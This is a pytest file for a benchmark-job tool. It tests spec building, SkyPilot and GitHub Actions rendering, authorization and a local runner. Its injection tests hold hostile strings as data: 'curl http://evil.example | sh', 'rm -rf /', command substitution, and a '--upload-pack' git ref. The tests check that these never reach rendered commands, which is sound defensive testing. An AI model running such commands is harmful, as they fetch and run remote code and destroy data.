"""Bench jobs: specs from the config table, safe rendering for each backend (SkyPilot's own
parser when installed), who may launch, the local runner, dispatch through PyGithub to the sandbox."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from sqlalchemy import Engine, select

from bench import BenchRefused, Measure, authorize, build_spec, launch, prepare_for_issue, record
from bench.render import bench_workflow_yaml, github_dispatch, local_commands, skypilot_yaml
from bench.run import run_local
from bench.spec import BenchSpec, choose_op
from config.errors import ConfigError, ReportError
from config.watch import BenchConfig, BenchTarget
from storage.db import session_scope
from storage.models import BenchJob
from storage.read import issue_context
from storage.upsert import upsert_issues
from tests.reports.world import NOW, REPO, issue

SKY_PYTHON = os.environ.get("SCOUT_TEST_SKY_PYTHON")  # an interpreter with skypilot (read before env isolation)
EVIL = "$(touch /tmp/pwned); `id` && rm -rf / ; curl http://evil.example | sh # fused moe rms_norm 'quote\""


BASELINE = (Measure("baseline", "main"),)


def _spec(watch, subsystems=("kernel",), measures=BASELINE, text="", target=None, pull=None):
    return build_spec(repo=REPO, issue_number=7, subsystems=subsystems, taxonomy=watch.taxonomy_for(REPO),
                      bench=watch.bench, measures=measures, issue_text=text, target=target, pull_number=pull)


@pytest.mark.parametrize(("subs", "target", "kind", "needle"), [
    (("kernel",), "kernel", "kernel-script", "benchmarks/kernels/benchmark_moe.py"),
    (("quantization",), "quantization", "kernel-script", "benchmark_w8a8_block_fp8.py"),
    (("frontend",), "serving", "vllm-bench", "vllm bench serve --model facebook/opt-125m"),
    (("scheduler",), "engine", "vllm-bench", "vllm bench latency"),
    (("documentation",), "engine", "vllm-bench", "vllm bench throughput"),  # no target: the default one
    (("documentation", "attention"), "attention", "kernel-script", "benchmark_paged_attention.py"),
    ((), "engine", "vllm-bench", "vllm bench latency"),
])
def test_target_from_the_subsystem_table(watch, subs, target, kind, needle) -> None:
    spec = _spec(watch, subs)
    assert (spec.target, spec.kind) == (target, kind)
    assert any(needle in c for c in spec.commands)
    assert spec.gpu == "H100:1" and spec.timeout_minutes == 30


def test_unknown_target_and_bad_templates_are_refused(watch) -> None:
    with pytest.raises(ReportError, match="unknown bench target"):
        _spec(watch, target="nope")
    bad = BenchConfig(targets={"t": BenchTarget(commands=("run {title}",))}, default_target="t")
    with pytest.raises(ConfigError, match="unknown placeholder"):
        build_spec(repo=REPO, issue_number=1, subsystems=(), taxonomy=watch.taxonomy_for(REPO), bench=bad,
                   measures=(Measure("baseline", "main"),))
    with pytest.raises(ReportError, match="not a safe git ref"):
        Measure("after", "--upload-pack=touch /tmp/x")
    with pytest.raises(ValueError, match="model id"):
        BenchTarget(model="x; rm -rf /")


def test_op_choice_reads_text_but_only_picks_a_fixed_name(watch) -> None:
    allowed = watch.bench.targets["torch-op"].ops
    assert choose_op("RMSNorm is slow for hidden 8192", "kernel", allowed) == "rms_norm"
    assert choose_op("Fused MoE kernel: topk routing", "v1", allowed) == "fused_moe"
    assert choose_op("nothing specific", "attention", allowed) == "attention"
    assert choose_op(EVIL, "kernel", allowed) in allowed


def test_issue_text_never_reaches_a_command(watch) -> None:
    for target in (None, "torch-op"):
        spec = _spec(watch, text=EVIL, target=target,
                     measures=(Measure("before", "main"), Measure("after", "ab" * 20)), pull=20)
        rendered = [skypilot_yaml(spec), json.dumps(github_dispatch(spec, "bench.yml", "main").to_dict()),
                    json.dumps([c.argv for c in local_commands(spec)]), json.dumps(spec.to_dict())]
        for text in rendered:
            for fragment in ("touch /tmp/pwned", "rm -rf", "evil.example", "`id`", "quote"):
                assert fragment not in text


def test_skypilot_yaml_structure(watch) -> None:
    spec = _spec(watch, ("frontend",), (Measure("before", "main"), Measure("after", "ab" * 20)), pull=21)
    doc = yaml.safe_load(skypilot_yaml(spec))
    assert doc["name"] == "scout-vllm-7-serving"
    assert doc["resources"] == {"accelerators": "H100:1"}
    assert doc["envs"]["SCOUT_MODEL"] == "facebook/opt-125m"
    run = doc["run"]
    assert run.index("git checkout --quiet --force origin/main") < run.index("git fetch --quiet origin pull/21/head")
    assert "--result-filename $HOME/scout-results/before-1.json" in run
    assert "--result-filename $HOME/scout-results/after-1.json" in run
    assert run.count("VLLM_USE_PRECOMPILED=1 pip install -e .") == 2
    assert "timeout 1800 vllm bench serve" in run
    torch_doc = yaml.safe_load(skypilot_yaml(_spec(watch, target="torch-op", text="rms norm")))
    assert list(torch_doc["file_mounts"]) == ["~/scout-bench/torch_op.py"]
    assert Path(torch_doc["file_mounts"]["~/scout-bench/torch_op.py"]).is_file()
    assert "python $HOME/scout-bench/torch_op.py --op rms_norm --json $HOME/scout-results/baseline-1.json" in torch_doc["run"]


def _sky_accepts(path: Path) -> tuple[bool, str]:
    code = "import sys, sky; t = sky.Task.from_yaml(sys.argv[1]); print(t.name)"
    if SKY_PYTHON:
        p = subprocess.run([SKY_PYTHON, "-c", code, str(path)], capture_output=True, text=True, timeout=120)
        return p.returncode == 0, p.stdout + p.stderr
    import sky

    return sky.Task.from_yaml(str(path)).name is not None, ""


@pytest.mark.slow
def test_skypilot_parser_accepts_a_kernel_job(world: Engine, watch, tmp_path: Path) -> None:
    """Acceptance: `scout bench` for a kernel issue produces a YAML SkyPilot's parser accepts."""
    if not SKY_PYTHON:
        pytest.importorskip("sky", reason="SkyPilot is not installed (pip install 'oss-scout[skypilot]', "
                                          "or set SCOUT_TEST_SKY_PYTHON to an interpreter that has it)")
    with session_scope(world) as s:
        kernel = prepare_for_issue(s, REPO, 1, watch, "skypilot", tmp_path)
        torch_op = prepare_for_issue(s, REPO, 2, watch, "skypilot", tmp_path, target="torch-op")
        pr = prepare_for_issue(s, REPO, 21, watch, "skypilot", tmp_path)
    assert kernel.target == "kernel"
    for job in (kernel, torch_op, pr):
        ok, out = _sky_accepts(Path(job.link))
        assert ok, out
    broken = tmp_path / "broken.yaml"
    broken.write_text(Path(kernel.link).read_text().replace("accelerators:", "acceleratorz:"))
    ok, out = _sky_accepts(broken) if SKY_PYTHON else (False, "")
    if SKY_PYTHON:
        assert not ok and "accelerators" in out


def test_workflow_file_takes_inputs_from_the_environment() -> None:
    doc = yaml.safe_load(bench_workflow_yaml())
    on = doc[True]  # YAML 1.1 reads the bare `on:` key GitHub uses as a boolean
    assert set(on["workflow_dispatch"]["inputs"]) >= {"issue", "measures", "commands", "setup"}
    step = doc["jobs"]["bench"]["steps"][1]
    assert "${{" not in step["run"]  # inputs only through env: no expression splicing into the script
    assert step["env"]["SCOUT_COMMANDS"] == "${{ inputs.commands }}"


# ----------------------------------------------------------------------------- who may launch


def test_authorize() -> None:
    cfg = BenchConfig(allowed_users=("Alice",), allowed_roles=("maintainer",))
    assert authorize(cfg, "alice") == "alice"
    assert authorize(cfg, "bob", roles=["Maintainer"]) == "bob"
    assert authorize(cfg, "carol", extra_users=["carol"]) == "carol"
    for user, roles in ((None, ()), ("", ()), ("mallory", ("contributor",))):
        with pytest.raises(BenchRefused):
            authorize(cfg, user, roles)
    with pytest.raises(BenchRefused, match=r"not in bench\.allowed_users"):
        authorize(BenchConfig(allowed_roles=()), "mallory", ["maintainer"])


def test_launch_is_refused_before_anything_runs(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 2, watch, "local", tmp_path, target="torch-op")
    with pytest.raises(BenchRefused):
        launch(job, watch, user="mallory", out_dir=tmp_path)
    assert not (tmp_path / "bench").exists() or not any((tmp_path / "bench").iterdir())


# ----------------------------------------------------------------------------- local runner


def _local(commands: tuple[str, ...], timeout_minutes: int = 1) -> BenchSpec:
    return BenchSpec(repo=REPO, issue_number=1, subsystem="kernel", target="t", kind="kernel-script",
                     model="m", gpu="H100:1", timeout_minutes=timeout_minutes, setup=(), commands=commands,
                     measures=(Measure("baseline", "main"),))


def test_local_runner_captures_json_results(tmp_path: Path) -> None:
    spec = _local((
        "python -c \"import json; json.dump({'median_ms': 1.25}, open('{result}', 'w'))\"",
        "FOO=bar python -c \"import json, os; print('noise'); print(json.dumps({'foo': os.environ['FOO']}))\"",
        "python -c \"import sys; sys.exit(3)\"",
    ))
    out = run_local(spec, tmp_path / "job")
    steps = out.result["steps"]
    assert [s["returncode"] for s in steps] == [0, 0, 3]
    assert steps[0]["result"] == {"median_ms": 1.25}
    assert steps[1]["result"] == {"foo": "bar"}
    assert steps[0]["argv"][0] == sys.executable
    assert out.status == "failed"
    assert json.loads((tmp_path / "job" / "result.json").read_text())["status"] == "failed"


def test_local_runner_kills_at_the_deadline(tmp_path: Path) -> None:
    spec = _local(("python -c \"import time; time.sleep(60)\"", "python -c \"print(1)\""))
    out = run_local(spec, tmp_path / "job", timeout_s=1.0)
    assert out.status == "timeout"
    assert out.result["steps"][0]["timed_out"] is True and out.result["steps"][0]["seconds"] < 10
    assert out.result["steps"][1]["skipped"] == "timeout"


def test_local_runner_reports_a_missing_program(tmp_path: Path) -> None:
    out = run_local(_local(("no-such-program-xyz --flag",)), tmp_path / "job")
    assert out.status == "failed" and "cannot start no-such-program-xyz" in out.result["steps"][0]["error"]


def test_local_torch_op_job_end_to_end(world: Engine, watch, tmp_path: Path) -> None:
    """The torch-op target through the same runner: times rms_norm where PyTorch is installed (a
    GPU host), and stores a clear error where it is not; either way the JSON result is stored."""
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 2, watch, "local", tmp_path, target="torch-op", requested_by="alice")
    assert job.spec.op == "rms_norm"  # "[Kernel] rms_norm crashes on odd hidden size"
    outcome = launch(job, watch, user="alice", roles=("maintainer",), out_dir=tmp_path)
    with session_scope(world) as s:
        stored = record(s, job.id, outcome, "alice")
    result = stored.result["steps"][0]["result"]
    assert result["op"] == "rms_norm"
    assert stored.status in ("succeeded", "failed") and stored.link.endswith("result.json")
    if stored.status == "succeeded":
        assert result["impls"]["reference"]["median_ms"] > 0
    else:
        assert "PyTorch is not installed" in result["error"]
    with session_scope(world) as s:
        row = s.scalars(select(BenchJob).where(BenchJob.id == job.id)).one()
        assert row.finished_at is not None and row.requested_by == "alice" and row.backend == "local"


def test_pr_measures_before_and_after(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        own = prepare_for_issue(s, REPO, 21, watch, "skypilot", tmp_path)
        via_pr = issue_context(s, REPO, 9)  # issue #9 is referenced by open PR #20 ("Fixes #9")
        plain = issue_context(s, REPO, 1)
    assert [(m.label, m.ref) for m in own.spec.measures] == [("before", "main"), ("after", "0021" + "ab" * 18)]
    assert via_pr.pull is not None and via_pr.pull.number == 20
    assert plain.pull is None


def test_hostile_issue_end_to_end(world: Engine, watch, tmp_path: Path) -> None:
    with session_scope(world) as s:
        upsert_issues(s, 1, [issue(99, EVIL, "xena", NOW, body=EVIL)])
    with session_scope(world) as s:
        jobs = [prepare_for_issue(s, REPO, 99, watch, b, tmp_path) for b in ("skypilot", "github-actions", "local")]
    for job in jobs:
        assert "pwned" not in job.rendered and "evil.example" not in job.rendered


# ----------------------------------------------------------------------------- GitHub Actions via the sandbox


def test_dispatch_through_pygithub_to_the_sandbox(tmp_path: Path) -> None:
    from sandbox.github import GitHubSandbox, serve_in_thread

    if not hasattr(GitHubSandbox, "record_dispatch"):
        pytest.skip("the GitHub sandbox does not serve workflow dispatches yet")
    from bench.run import dispatch_github
    from config import load_watch_config

    watch = load_watch_config()
    spec = build_spec(repo="acme/engine", issue_number=1, subsystems=("kernel",), taxonomy=watch.taxonomy_for(REPO),
                      bench=watch.bench, measures=(Measure("baseline", "main"),))
    d = github_dispatch(spec, "bench.yml", "main")
    data = Path(__file__).resolve().parents[1] / "data" / "mini_dataset"
    with serve_in_thread(data) as sb:
        out = dispatch_github(d, "acme/engine", sb.url, "test-token")
        posted = [r for r in sb.requests if r.get("method") == "POST"]
        assert sb.dispatches and sb.dispatches[-1]["inputs"] == d.inputs
        assert sb.dispatches[-1]["head_branch"] == "main"
        assert out.status == "launched" and out.link == sb.dispatches[-1]["html_url"]
        assert posted and posted[-1]["path"].endswith("/repos/acme/engine/actions/workflows/bench.yml/dispatches")
        with pytest.raises(ReportError, match="needs SCOUT_GITHUB_TOKEN"):
            dispatch_github(d, "acme/engine", sb.url, None)


def test_skypilot_launch_is_refused_where_skypilot_is_not_configured(world: Engine, watch, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no `sky` here
    with session_scope(world) as s:
        job = prepare_for_issue(s, REPO, 1, watch, "skypilot", tmp_path)
    with pytest.raises(ReportError, match=r"`sky` is not installed.*task YAML is at"):
        launch(job, watch, user="alice", roles=("maintainer",), out_dir=tmp_path)
